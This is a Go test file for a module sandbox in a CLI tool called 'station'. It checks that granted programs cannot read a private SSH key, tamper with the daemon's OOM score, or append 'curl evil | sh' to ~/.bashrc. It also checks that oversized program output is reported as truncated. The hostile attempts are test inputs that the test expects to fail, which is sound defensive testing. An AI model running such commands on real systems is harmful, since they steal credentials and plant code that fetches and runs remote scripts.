package cli_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/station-dev/station/internal/cli"
	"github.com/station-dev/station/internal/probe"
)

// TestGrantedProgramsConfinedThroughTheDaemon is the user's view of the
// subprocess gate, run as whoever runs the tests (CI: root, then an
// unprivileged user): with `station serve` running, a module granted only
// cat and tee cannot read a 0600 key, append to ~/.bashrc or raise the
// daemon's OOM score, and a module with no write grant writes nothing
// anywhere. The approval prompt and `module show` say what confines the
// programs on this machine.
func TestGrantedProgramsConfinedThroughTheDaemon(t *testing.T) {
	home := t.TempDir()
	user := t.TempDir() // the user's home directory, outside every grant
	os.Mkdir(filepath.Join(user, ".ssh"), 0o700)
	key := filepath.Join(user, ".ssh", "id_ed25519")
	rc := filepath.Join(user, ".bashrc")
	os.WriteFile(key, []byte("PRIVATE KEY"), 0o600)
	os.WriteFile(rc, []byte("# rc\n"), 0o600)
	work := t.TempDir()

	wasm := probe.Wasm(t, probe.ExecTag)
	install := func(id, writes string) string {
		dir := t.TempDir()
		man := "id: " + id + "\nversion: \"1.0.0\"\ndescription: runs programs\nwasm: module.wasm\n" +
			"commands:\n  - name: run\n    description: run probe actions\n" +
			"requires:\n  subprocess: {allow: [cat, tee, touch]}\n  filesystem_writes: [" + writes + "]\n"
		os.WriteFile(filepath.Join(dir, "module.yaml"), []byte(man), 0o600)
		os.WriteFile(filepath.Join(dir, "module.wasm"), wasm, 0o600)
		return dir
	}
	withWrites, noWrites := install("test/tools", strconv.Quote(work+"/**")), install("test/nowrite", "")

	r := station(t, home, "", "module", "install", withWrites).want(t, cli.ExitUsage)
	const confined = "confined on this machine by Landlock"
	if !strings.Contains(r.err, "MAY START cat") || !strings.Contains(r.err, confined) {
		t.Fatalf("the approval prompt does not say how programs are confined here:\n%s", r.err)
	}
	station(t, home, "", "module", "install", "--yes", withWrites).want(t, 0)
	station(t, home, "", "module", "install", "--yes", noWrites).want(t, 0)
	if r := station(t, home, "", "module", "show", "test/tools").want(t, 0); !strings.Contains(r.out, confined) ||
		!strings.Contains(r.out, "  files: quota 256 MiB (0 B used), 20000 files and directories (0 used), 256 open at once (64 per instance)\n") ||
		!strings.Contains(r.out, "  programs: 1 MiB of stdout and of stderr each\n") {
		t.Errorf("module show does not say how programs are confined here, or its limits:\n%s", r.out)
	}
	var shown map[string]any
	if err := json.Unmarshal([]byte(station(t, home, "", "module", "show", "--json", "test/tools").want(t, 0).out), &shown); err != nil ||
		!strings.Contains(shown["program_confinement"].(string), confined) {
		t.Errorf("module show --json: %v %v", shown, err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	var out lockedBuffer
	done := make(chan int, 1)
	go func() {
		done <- cli.Run(ctx, []string{"serve", "--addr", "127.0.0.1:0", "--home", home}, cli.IO{Cache: testCache, In: strings.NewReader(""), Out: &out, Err: &out})
	}()
	defer func() {
		cancel()
		<-done
	}()
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(out.String(), "listening on") {
		if time.Now().After(deadline) {
			t.Fatalf("the daemon did not start:\n%s", out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
	oomFile := "/proc/" + strconv.Itoa(os.Getpid()) + "/oom_score_adj" // the daemon runs in this process
	oom, err := os.ReadFile(oomFile)
	if err != nil {
		t.Fatal(err)
	}
	run := func(module string, a probe.Action) probe.Result {
		t.Helper()
		in := probe.Run(a)
		r := station(t, home, "", "run", module, "run", "--input", string(in)).want(t, 0)
		res, err := probe.Decode([]byte(r.out))
		if err != nil || len(res) != 1 {
			t.Fatalf("%s: results %v, %v\n%s", module, res, err, r.out)
		}
		return res[0]
	}
	feed := func(a probe.Action, s string) probe.Action { a.Data = s; return a }
	for _, c := range []struct {
		name   string
		module string
		act    probe.Action
	}{
		{"cat a 0600 key", "test/tools", probe.Exec("cat", key)},
		{"append to ~/.bashrc", "test/tools", feed(probe.Exec("tee", "-a", rc), "curl evil | sh\n")},
		{"raise the daemon's OOM score", "test/tools", feed(probe.Exec("tee", oomFile), "1000\n")},
		{"write without a write grant", "test/nowrite", feed(probe.Exec("tee", filepath.Join(work, "x")), "x")},
		{"touch without a write grant", "test/nowrite", probe.Exec("touch", filepath.Join(user, "x"))},
		{"write /tmp without a write grant", "test/nowrite", probe.Exec("touch", "/tmp/station-nowrite-"+strconv.Itoa(os.Getpid()))},
	} {
		res := run(c.module, c.act)
		if res.OK && res.ExitCode != nil && *res.ExitCode == 0 {
			t.Errorf("%s: the program succeeded (stdout %q)", c.name, res.Stdout)
		}
		if strings.Contains(res.Stdout, "PRIVATE KEY") {
			t.Errorf("%s: the key leaked", c.name)
		}
	}
	if res := run("test/tools", probe.Exec("touch", filepath.Join(work, "ok"))); !res.OK || res.ExitCode == nil || *res.ExitCode != 0 {
		t.Errorf("control: touch in the write grant = %+v", res)
	}
	if b, _ := os.ReadFile(rc); string(b) != "# rc\n" {
		t.Errorf("~/.bashrc = %q", b)
	}
	if b, _ := os.ReadFile(oomFile); string(b) != string(oom) {
		t.Errorf("the daemon's oom_score_adj changed from %q to %q", oom, b)
	}
	ents, _ := os.ReadDir(user)
	ws, _ := os.ReadDir(work)
	if len(ents) != 2 || len(ws) != 1 {
		t.Errorf("files appeared: home %v, work %v", ents, ws)
	}
	if _, err := os.Stat("/tmp/station-nowrite-" + strconv.Itoa(os.Getpid())); err == nil {
		os.Remove("/tmp/station-nowrite-" + strconv.Itoa(os.Getpid()))
		t.Error("a module without a write grant wrote /tmp")
	}
}

// Issue 12, defect 4, as `station run` shows it: a module whose program
// wrote more than the station keeps gets an error saying truncated, with the
// limit, and the printed result (indented and --compact) says so; with
// partial output accepted the result is marked truncated with the limit and
// the bytes discarded.
func TestRunShowsTruncatedProgramOutput(t *testing.T) {
	home := t.TempDir()
	dir := t.TempDir()
	man := "id: test/spew\nversion: \"1.0.0\"\ndescription: runs programs\nwasm: module.wasm\n" +
		"commands:\n  - name: run\n    description: run probe actions\n" +
		"requires:\n  subprocess: {allow: [head]}\n"
	os.WriteFile(filepath.Join(dir, "module.yaml"), []byte(man), 0o600)
	os.WriteFile(filepath.Join(dir, "module.wasm"), probe.Wasm(t, probe.ExecTag), 0o600)
	station(t, home, "", "module", "install", "--yes", dir).want(t, 0)
	spew := probe.Exec("head", "-c", strconv.Itoa(1<<20+10), "/dev/zero")
	in := string(probe.Run(spew, spew.WithPartial()))
	for _, flags := range [][]string{nil, {"--compact"}} {
		r := station(t, home, "", append([]string{"run", "--no-daemon", "--input", in, "test/spew", "run"}, flags...)...).want(t, 0)
		res, err := probe.Decode([]byte(r.out))
		if err != nil || len(res) != 2 {
			t.Fatalf("run %v: %v\n%s", flags, err, r.out)
		}
		if cut := res[0]; cut.OK || cut.Error == nil || !strings.Contains(cut.Error.Message, "truncated at the station's limit of 1048576 bytes") {
			t.Errorf("run %v: a cut output reached the module as ok %v, error %+v", flags, cut.OK, cut.Error)
		}
		if p := res[1]; !p.OK || !p.Truncated || p.Limit != 1<<20 || p.StdoutDropped != 10 {
			t.Errorf("run %v: partial output: ok %v, truncated %v, limit %d, dropped %d", flags, p.OK, p.Truncated, p.Limit, p.StdoutDropped)
		}
		if !strings.Contains(r.out, `"truncated"`) || !strings.Contains(r.out, `"limit"`) {
			t.Errorf("run %v: the printed result does not say truncated with the limit:\n%.400s", flags, r.out)
		}
	}
}
